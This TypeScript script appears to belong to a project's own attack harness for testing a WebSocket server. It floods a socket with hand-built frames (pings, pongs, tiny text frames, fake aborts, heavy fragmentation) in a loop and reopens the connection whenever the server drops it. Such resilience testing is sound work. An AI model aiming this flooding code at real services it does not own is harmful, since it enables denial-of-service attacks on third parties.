import { once } from 'node:events'
import type { Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { again, attack, requestSocket, scaled, socketTicket, words } from './attacker.ts'

// One socket with more small frames than anybody may send, written as one piece, again and again. When it is closed
// another one is opened, as often as one address may.

const REOPEN_MS = 10

/** A masked frame of at most 125 bytes; the mask is zero. */
function frame(opening: number, payload = ''): Buffer {
  return Buffer.concat([
    Buffer.from([opening, 0x80 | payload.length, 0, 0, 0, 0]),
    Buffer.from(payload),
  ])
}

const FIN = 0x80
const TEXT = 0x01
const PING = 0x89
const PONG = 0x8a
const many = (count: number, piece: Buffer) => Buffer.concat(Array(scaled(count)).fill(piece))

/** One message in so many fragments; as many as it may have are 16,384. */
const message = (count: number, piece: Buffer) =>
  Buffer.concat([frame(TEXT, '{'), many(count, piece), frame(FIN, '}')])

const floods: Readonly<Record<string, Buffer>> = {
  pings: many(10_000, frame(PING, 'x'.repeat(125))),
  pongs: many(10_000, frame(PONG, 'x'.repeat(125))),
  'tiny-frames': many(10_000, frame(FIN | TEXT, '{}')),
  aborts: many(10_000, frame(FIN | TEXT, '{"type":"abort","requestId":"nobody"}')),
  fragments: message(16_000, frame(0)),
  'fragments-and-pings': message(40, Buffer.concat([many(400, frame(0)), frame(PING, 'x')])),
}

const flood = floods[words[0] ?? '']
if (flood === undefined) throw new Error(`expected one of ${Object.keys(floods)}`)

async function open(): Promise<Socket> {
  const socket = requestSocket(await socketTicket())
  // Where it is reset instead, the next one is opened.
  await once(socket, 'data').catch(() => {})
  return socket.resume()
}

await attack(async () => {
  let socket = await open()
  return () =>
    again(1, async () => {
      if (socket.destroyed || socket.readableEnded) {
        socket.destroy()
        await delay(REOPEN_MS)
        socket = await open()
      }
      if (!socket.writableNeedDrain) socket.write(flood)
    })
})
